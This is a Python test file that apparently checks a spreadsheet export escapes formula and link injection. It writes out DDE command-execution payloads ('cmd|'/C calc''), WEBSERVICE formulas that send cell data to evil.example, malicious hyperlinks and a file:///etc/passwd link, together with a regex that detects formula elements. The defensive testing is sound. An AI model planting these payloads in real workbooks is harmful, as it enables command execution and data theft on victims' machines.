"""Text that a spreadsheet could take for a formula or a link, in every place that text has in a workbook of lines."""

import re
import zipfile
from dataclasses import replace
from io import BytesIO
from itertools import product

from openpyxl import load_workbook

from partner_tui.domain.line import EXTRA, LINE_COLUMNS, Kind
from tests.faults.harness import Row, Trials
from tests.store.detail_workbooks import SPEC, Columns, Workbook, details, same_text

_STARTS = ("=", "+", "-", "@", "\t", "\r", "\t=", "\r=", " =", "\n=", "'=", '"=', "＝", "＋", "%3D")
_DOINGS = (
    *("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example","here")', "DDE(1;2;3)", "SUM(A1:A9)"),
    *('WEBSERVICE("http://evil.example/"&A1)', "IMPORTXML(1)", "rundll32|'URL.dll'!A", "A1", "2+5+cmd|' /C x'!A0"),
    *("{=1+1}", "!A1", "_xlfn.X()"),
)
_LINKS = (
    *("http://evil.example", "https://evil.example/?a=1&b=2", "mailto:a@evil.example", "file:///etc/passwd"),
    *("internal:Lines!A1", "external:c:\\a.xlsx", "ftp://evil.example", "ftps://evil.example", "www.evil.example"),
)
_PAYLOADS = tuple(f"{start}{doing}" for start, doing in product(_STARTS, _DOINGS)) + _LINKS
_ACTS = re.compile(r"<(f|hyperlinks?|ddeLink|oleLink|externalReference|calcChain)[ />]|relationships/hyperlink")
_TEXT_COLUMNS = [column.name for column in LINE_COLUMNS if column.kind not in (Kind.MONEY, Kind.NUMBER)]


def run(trials: Trials) -> None:
    payloads = _PAYLOADS[: trials.count]
    trials.tell(f"{len(payloads)} texts in {len(_TEXT_COLUMNS) + 2} columns, shared and not, and about the file")
    for times in (1, 3):
        texts = [payload for payload in payloads for _ in range(times)]
        columns: Columns = {name: texts for name in (*_TEXT_COLUMNS, f"{EXTRA}Note")}
        _demand_text(trials, Workbook.of(details(columns)), texts, len(columns))
    for payload in payloads:
        spec = replace(SPEC, customer=payload, product=payload, region=payload, filter=payload, subject=payload)
        book = Workbook.of(details({f"{EXTRA}{payload}": [payload]}, spec=spec))
        _demand_text(trials, book, [payload], 1)


def _demand_text(trials: Trials, book: Workbook, texts: list[str], columns: int) -> None:
    with zipfile.ZipFile(BytesIO(book.content)) as package:
        for name in package.namelist():
            found = _ACTS.search(package.read(name).decode())
            trials.demand(found is None, f"{texts[:1]}: {name} has {found and found[0]}")
    opened = load_workbook(BytesIO(book.content))
    for sheet in opened:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            trials.demand(
                cell.data_type in ("s", "n", "inlineStr"), f"{sheet.title} {cell.coordinate} is {cell.data_type}"
            )
            trials.demand(cell.hyperlink is None, f"{sheet.title} {cell.coordinate} is a link")
            trials.demand(
                cell.data_type != "n" or cell.value is None or sheet.title != "Lines",
                f"{sheet.title} {cell.coordinate} is the number {cell.value}",
            )
    lines = list(opened["Lines"].iter_rows(min_row=2, values_only=True))
    trials.demand(len(lines) == len(texts), f"{len(lines)} lines instead of {len(texts)}")
    for row, text in zip(lines, texts, strict=True):
        held = len(row) == columns and all(same_text(cell, text) for cell in row)
        trials.demand(held, f"{text!r} is read back as {set(row)}")


ROW = Row(32, "formula payloads", 200, 200, run)
